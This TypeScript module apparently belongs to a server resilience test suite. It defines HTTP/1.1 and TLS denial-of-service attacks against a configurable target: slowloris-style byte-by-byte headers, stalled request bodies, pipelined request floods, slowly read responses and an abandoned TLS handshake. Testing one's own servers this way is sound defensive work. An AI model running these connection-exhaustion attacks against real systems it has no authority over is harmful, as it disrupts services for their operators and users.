import type { Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { type Attack, held, type Life, openTcp, openTls, repeat } from './attack.ts';

const head = (line: string, host: string) => `${line} HTTP/1.1\r\nHost: ${host}\r\n`;
const to = (life: Life) => openTls(life.target.httpsPort, life.target.host, life);
const UNKNOWN = 'nobody.localhost';

async function pipeline(life: Life): Promise<void> {
  const socket = await openTcp(life.target.httpPort, life);
  const requests = `${head('GET /', UNKNOWN)}\r\n`.repeat(500);
  await repeat(socket, 10, () => socket.write(requests));
}

async function unfinishedHead(life: Life, open: () => Promise<Socket>): Promise<void> {
  const socket = await open();
  socket.write(head('GET /', life.target.host));
  // Small pieces: what they leave behind counts, too.
  await repeat(socket, 100, () => socket.bytesWritten < 60_000 && socket.write(`X-Much: ${'x'.repeat(2000)}\r\n`));
}

/** Carried out only when `--only` names them: each would hide the others. */
export const SINGLE_ATTACKS: Attack[] = [
  { name: 'fifty clients that pipeline requests for an unknown host', width: 50, live: pipeline },
  {
    name: 'hundreds of unfinished heads over HTTP',
    width: 600,
    live: (life) => unfinishedHead(life, () => openTcp(life.target.httpPort, life)),
  },
  { name: 'hundreds of unfinished heads over HTTPS', width: 200, live: (life) => unfinishedHead(life, () => to(life)) },
];

/** Clients that abuse HTTP/1.1. */
export const HTTP1_ATTACKS: Attack[] = [
  {
    name: 'request head, one byte a second',
    width: 10,
    async live(life) {
      const socket = await openTcp(life.target.httpPort, life);
      socket.write(`${head('GET /', life.target.host)}X-Slow: `);
      await repeat(socket, 1000, () => socket.write('x'));
    },
  },
  {
    name: 'request head of 60 KiB that never ends',
    width: 20,
    async live(life) {
      const socket = await openTcp(life.target.httpPort, life);
      socket.write(head('GET /', life.target.host));
      await repeat(socket, 100, () => socket.bytesWritten < 60_000 && socket.write(`X-Much: ${'x'.repeat(4000)}\r\n`));
    },
  },
  {
    name: 'body that stops after one byte',
    width: 20,
    async live(life) {
      const socket = await to(life);
      socket.write(`${head('POST /', life.target.host)}Content-Length: 100000\r\n\r\nx`);
      await held(socket);
    },
  },
  {
    name: 'body, one byte a second',
    width: 20,
    async live(life) {
      const socket = await to(life);
      socket.write(`${head('POST /', life.target.host)}Content-Length: 100000\r\n\r\n`);
      await repeat(socket, 1000, () => socket.write('x'));
    },
  },
  {
    name: 'body that stops, for an unknown host',
    width: 20,
    async live(life) {
      const socket = await openTcp(life.target.httpPort, life);
      socket.write(`${head('POST /', UNKNOWN)}Content-Length: 100000\r\n\r\nx`);
      await held(socket);
    },
  },
  { name: 'pipelined requests for an unknown host', width: 10, live: pipeline },
  {
    name: 'pipelined requests whose responses are not read',
    width: 10,
    async live(life) {
      const socket = await to(life);
      socket.write(`${head('GET /bytes/1000000', life.target.host)}\r\n`.repeat(20));
      await held(socket, { reads: false });
    },
  },
  {
    name: 'response, one KiB a second',
    width: 10,
    async live(life) {
      const socket = await openTls(life.target.httpsPort, life.target.host, life);
      socket.write(`${head('GET /bytes/10000000', life.target.host)}\r\n`);
      await repeat(socket, 1000, () => socket.read(1024), { reads: false });
    },
  },
  {
    name: 'request, more bytes, and gone before the response',
    width: 5,
    async live(life) {
      const socket = await to(life);
      socket.write(`${head('GET /wait/30000', life.target.host)}\r\n${head('GET /', life.target.host)}\r\n`);
      await wait(200);
      socket.destroy();
    },
  },
  {
    name: 'TLS handshake that stops',
    width: 10,
    async live(life) {
      const socket = await openTcp(life.target.httpsPort, life);
      socket.write(Buffer.from('16030102000100', 'hex'));
      await held(socket);
    },
  },
];
